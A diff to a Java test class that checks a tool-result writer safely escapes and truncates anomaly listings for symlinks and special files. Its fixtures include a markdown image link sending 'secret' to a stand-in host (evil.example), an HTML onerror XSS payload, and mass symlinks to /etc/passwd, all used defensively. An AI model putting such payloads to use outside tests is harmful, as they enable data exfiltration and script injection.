@@ -305,6 +305,7 @@ class ToolResultWriterTest {
     for (int i = 0; i < 300; i++) {
       hostile.add("/out/l" + i + ": a symbolic link, not followed or collected");
     }
+    // 303 anomalies with the writer's own (stats.json missing): 150 shown, 153 counted
     ExecutionResult result = new ExecutionResult(ran.status(), ran.exitCode(), ran.runtime(), ran.stdout(), ran.stderr(),
         ran.artifacts(), ran.backend(), ran.limits(), ran.network(), hostile);
     WrittenResult written = ToolResultWriter.standard(CLOCK).write(request, result, temp.resolve("results"));
@@ -312,7 +313,7 @@ class ToolResultWriterTest {
     assertThat(document)
         .contains("- `/out/![x](https://evil.example/?d=secret): a symbolic link, not followed or collected`\n")
         .contains("- `/out/<img src=x onerror=alert(1)>: a special file, not collected`\n")
-        .contains("- and 203 more anomalies, not listed\n");
+        .contains("- and 153 more anomalies, not listed\n");
     Node parsed = Parser.builder().build().parse(document);
     List<Class<?>> kinds = new java.util.ArrayList<>();
     parsed.accept(new org.commonmark.node.AbstractVisitor() {
@@ -327,6 +328,23 @@ class ToolResultWriterTest {
       }
     });
     assertThat(kinds).isEmpty();
+    assertThat(ToolResultValidator.verifyingArtifacts().validate(written.resultFile()).violations()).isEmpty();
+  }
+
+  @Test
+  void tensOfThousandsOfLinksInOutGiveASmallResultTheValidatorAccepts() throws IOException {
+    ToolRequest request = Requests.parse(Requests.TYPICAL);
+    Path work = Files.createTempDirectory(temp, "run");
+    Path out = Files.createDirectory(work.resolve("out"));
+    for (int i = 0; i < 20_000; i++) {
+      Files.createSymbolicLink(out.resolve("l" + i), Path.of("/etc/passwd"));
+    }
+    ExecutionResult result = ScriptedExecutor.printing("x\n").execute(new ExecutionSpec(request,
+        Files.createDirectory(work.resolve("in")), out, Files.createDirectory(work.resolve("scratch")),
+        new EffectiveLimits(1, 512, Duration.ofSeconds(60), EffectiveLimits.DEFAULT_MAX_OUTPUT_BYTES)));
+    WrittenResult written = ToolResultWriter.standard(CLOCK).write(request, result, temp.resolve("results"));
+    assertThat(Files.size(written.resultFile())).isLessThan(64 * 1024);
+    assertThat(Files.readString(written.resultFile())).contains("- `and 19900 more anomalies in /out, not listed`");
     assertThat(ToolResultValidator.verifyingArtifacts().validate(written.resultFile()).violations()).isEmpty();
   }
 }
